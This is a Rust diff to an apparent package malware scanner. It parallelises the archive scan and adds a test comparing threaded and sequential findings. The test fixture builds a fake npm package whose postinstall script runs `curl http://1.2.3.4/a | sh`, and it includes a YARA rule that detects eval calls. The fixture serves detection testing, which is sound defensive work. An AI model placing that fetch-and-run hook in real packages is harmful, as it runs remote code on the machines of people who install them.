@@ -484,6 +484,9 @@ pub fn record(repo: &Path, d: &Decision, bundle: Option<&Path>) -> Result<PathBu
     Ok(path)
 }
 
+/// Threads that scan an archive's files at most (besides the one reading it).
+const SCAN_THREADS: usize = 4;
+
 /// What one streaming read of an archive found.
 struct Scanned {
     /// Regular files read.
@@ -520,16 +523,86 @@ fn scan_archive(
         kept: Vec::new(),
     };
     let mut yara = rules.package();
-    pass(&mut |e| {
-        scanned.files += 1;
-        scanned
-            .findings
-            .extend(malware::scan_entry(&e, platform_wheel, &mut yara));
-        if keep_all || malware::kept_for_hooks(&e.path, c.ecosystem) {
-            scanned.kept.push(e);
-        }
-        Ok(())
-    })?;
+    let keep = |e: &archive::Entry| keep_all || malware::kept_for_hooks(&e.path, c.ecosystem);
+    let threads = std::thread::available_parallelism().map_or(1, |n| n.get().min(SCAN_THREADS));
+    if threads < 2 {
+        pass(&mut |e| {
+            scanned.files += 1;
+            scanned
+                .findings
+                .extend(malware::scan_entry(&e, platform_wheel, &mut yara));
+            if keep(&e) {
+                scanned.kept.push(e);
+            }
+            Ok(())
+        })?;
+    } else {
+        // Files are scanned on `threads` threads while this one reads the archive; the
+        // package-wide part of the YARA rules is folded in here in the archive's order, so
+        // the findings are those of the sequential scan. At most `2 * threads` files are
+        // in memory besides the one being read.
+        let (work_tx, work_rx) = std::sync::mpsc::sync_channel::<(usize, archive::Entry)>(threads);
+        let work_rx = std::sync::Mutex::new(work_rx);
+        let (done_tx, done_rx) = std::sync::mpsc::channel();
+        std::thread::scope(|s| -> Result<(), Error> {
+            let work_tx = work_tx;
+            for _ in 0..threads {
+                let (work_rx, done_tx) = (&work_rx, done_tx.clone());
+                s.spawn(move || {
+                    loop {
+                        let next = match work_rx.lock() {
+                            Ok(rx) => rx.recv(),
+                            Err(_) => break,
+                        };
+                        let Ok((i, e)) = next else { break };
+                        let alone = malware::scan_entry_alone(&e, platform_wheel, rules);
+                        if done_tx.send((i, e, alone)).is_err() {
+                            break;
+                        }
+                    }
+                });
+            }
+            drop(done_tx);
+            let mut pending = std::collections::BTreeMap::new();
+            let (mut sent, mut folded) = (0usize, 0usize);
+            // every scan thread is gone (a panic, raised when the scope ends): send no more
+            let dead = std::cell::Cell::new(false);
+            // waits for results until at most `open` files are in flight, folding in order
+            let mut settle = |sent: usize, folded: &mut usize, open: usize| {
+                while sent - *folded > open {
+                    let Ok((i, e, alone)) = done_rx.recv() else {
+                        dead.set(true);
+                        return;
+                    };
+                    pending.insert(i, (e, alone));
+                    while let Some((e, alone)) = pending.remove(&*folded) {
+                        scanned
+                            .findings
+                            .extend(malware::fold_entry(&e, alone, &mut yara));
+                        *folded += 1;
+                    }
+                }
+            };
+            let read = pass(&mut |e| {
+                scanned.files += 1;
+                if keep(&e) {
+                    scanned.kept.push(e.clone());
+                }
+                if dead.get() {
+                    return Ok(());
+                }
+                if work_tx.send((sent, e)).is_ok() {
+                    sent += 1;
+                }
+                settle(sent, &mut folded, 2 * threads);
+                Ok(())
+            });
+            drop(work_tx);
+            read?;
+            settle(sent, &mut folded, 0);
+            Ok(())
+        })?;
+    }
     if c.ecosystem == Ecosystem::Npm {
         let targets = malware::npm_hook_targets(&scanned.kept);
         if !targets.is_empty() {
@@ -593,6 +666,82 @@ mod tests {
             let rules: Vec<&str> = d.reasons.iter().map(|r| r.rule.as_str()).collect();
             assert!(rules.contains(&"download-execute"), "{rules:?}");
         }
+    }
+
+    /// Files are scanned on several threads, but the findings are those of the sequential
+    /// scan of the same files: a rule's `max_hits` and its one hit per snippet count in the
+    /// archive's order.
+    #[test]
+    fn the_threaded_scan_finds_what_the_sequential_one_does() {
+        let dir = tempfile::tempdir().unwrap();
+        fs_err::write(
+            dir.path().join("threat-x.yar"),
+            "rule threat_x {\n meta:\n  description = \"evals\"\n  severity = \"high\"\n  max_hits = 5\n  path_include = \"*.js\"\n strings:\n  $a = /eval\\([a-z0-9]+\\)/\n condition:\n  $a\n}\n",
+        )
+        .unwrap();
+        let rules =
+            std::sync::Arc::new(malware::RuleSet::load(&[dir.path().to_path_buf()]).unwrap());
+        let mut files: Vec<(String, Vec<u8>)> = vec![(
+            "package/package.json".into(),
+            br#"{"name":"p","scripts":{"postinstall":"node install.js"}}"#.to_vec(),
+        )];
+        for i in 0..60 {
+            // the first files are the largest: the threads finish them last
+            let pad = if i < 3 {
+                "let v = w + 1;\n".repeat(8_000)
+            } else {
+                String::new()
+            };
+            files.push((
+                format!("package/lib/f{i}.js"),
+                format!(
+                    "{pad}const a{i} = 1;\neval(a{i});\neval(a{});\nconsole.log(process.env)\n",
+                    i % 3
+                )
+                .into_bytes(),
+            ));
+        }
+        files.push((
+            "package/install.js".into(),
+            b"require('child_process').exec('curl http://1.2.3.4/a | sh')\n".to_vec(),
+        ));
+        let members: Vec<(&str, &[u8], u32)> = files
+            .iter()
+            .map(|(p, d)| (p.as_str(), d.as_slice(), 0o644))
+            .collect();
+        let tmp = tempfile::tempdir().unwrap();
+        let path = tmp.path().join("p-1.0.0.tgz");
+        fs_err::write(&path, gzip(&write_tar(&members))).unwrap();
+        let c = Candidate::new(Ecosystem::Npm, "p", "1.0.0", &path);
+        let policy = Policy {
+            rules: Some(rules.clone()),
+            ..Policy::default()
+        };
+        let d = decide(&c, &[], &policy, Some("test".into()), 0).unwrap();
+        let entries: Vec<archive::Entry> = files
+            .iter()
+            .map(|(p, d)| archive::Entry {
+                path: p.clone(),
+                data: d.clone(),
+                executable: false,
+            })
+            .collect();
+        let sequential = malware::scan_package(&entries, Ecosystem::Npm, "p-1.0.0.tgz", &rules);
+        assert_eq!(d.findings, sequential);
+        let x: Vec<&str> = d
+            .findings
+            .iter()
+            .filter(|f| f.rule == "threat-x")
+            .map(|f| f.file.as_str())
+            .collect();
+        // five hits: distinct snippets, in the first files of the archive
+        assert_eq!(x.len(), 5, "{x:?}");
+        assert!(
+            x.iter()
+                .all(|f| ["f0.", "f1.", "f2."].iter().any(|p| f.contains(p))),
+            "{x:?}"
+        );
+        assert!(d.findings.iter().any(|f| f.rule == "download-execute"));
     }
 
     /// A bomb within the per-member limit but over the unpacked total is refused with a
